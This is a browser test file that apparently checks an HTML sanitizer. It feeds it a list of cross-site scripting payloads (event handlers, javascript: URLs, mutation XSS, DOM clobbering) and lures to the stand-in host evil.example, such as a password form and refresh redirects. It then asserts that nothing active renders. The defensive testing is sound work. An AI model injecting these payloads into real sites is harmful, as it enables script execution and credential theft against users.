import { expect, open, test } from '../support/test'

// Attacks of the threat list for HTML from data, rendered by an html_block under the actual policy.
const ATTACKS = [
  '<img src=x onerror=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></math>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe srcdoc="<script>parent.x=1</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example>',
  '<form action=//evil.example><input name=password><button>Go</button><select><option>1</option></select></form>',
  '<template><script>alert(1)</script></template>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
  '<script>alert(1)</script>',
  '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
  '<style>*{background:url(https://evil.example/)}</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/b)">x</p>',
  '<dialog open>x</dialog><video autoplay src="/x.mp4"></video>',
  '<a id=config><a id=config name=css_root href=//evil.example>',
  '<form id=app></form><img name=currentScript><img name=getElementById>',
  '<p class="mq-skip" id="__proto__">x</p>',
  '<div class="video-js vjs-fullscreen vjs-full-window brand-note" data-setup="{}" data-anything="1">x</div>',
  `<video class="video-js" data-setup='{"autoplay":true,"fill":true}' src="/media/video/clip.mp4"></video>`,
]

const ACTIVE_ELEMENTS =
  'script,iframe,object,embed,base,meta,link,style,form,input,button,textarea,select,option,template,dialog,svg,math'

test('renders no active content from HTML data, and keeps the text around it', { tag: '@core' }, async ({ page }) => {
  // Each attack has its own module, because some would swallow the content after it.
  const data = ATTACKS.map((html, index) => ({
    module: { slug: `hostile-${index}`, type: 'html_block', content: `<p>Before ${index}.</p>${html}` },
  }))
  await page.route('**/modules/placement/home/', (route) => route.fulfill({ json: { data } }))
  let alerts = 0
  page.on('dialog', (dialog) => {
    alerts++
    return dialog.dismiss()
  })
  await open(page, 'lumen', '/home')
  for (let index = 0; index < ATTACKS.length; index++) {
    const block = page.locator(`#hostile-${index}`)
    await block.scrollIntoViewIfNeeded()
    await expect(block.getByText(`Before ${index}.`)).toBeVisible()
  }

  const html = page.locator('.mq-module--html_block .mq-html')
  expect(await html.locator(ACTIVE_ELEMENTS).count()).toBe(0)
  const attributes = await html
    .locator('*')
    .evaluateAll((elements) =>
      elements.flatMap((element) => [...element.attributes].map(({ name, value }) => [name, value])),
    )
  expect(attributes.length).toBeGreaterThan(0)
  for (const [name = '', value = ''] of attributes) {
    expect(name).not.toMatch(/^on|^style$|^srcdoc$|^autoplay$|^action$/)
    if (name === 'href' || name === 'src')
      expect(new URL(value, 'https://site.example').protocol).toMatch(/^(?:https?|mailto|tel):$/)
    if (name === 'id' || name === 'name') expect(value).toMatch(/^user-content-/)
    if (name === 'class') expect(value).toBe('brand-note')
    expect(name).not.toMatch(/^data-/)
  }
  expect(alerts).toBe(0)
})
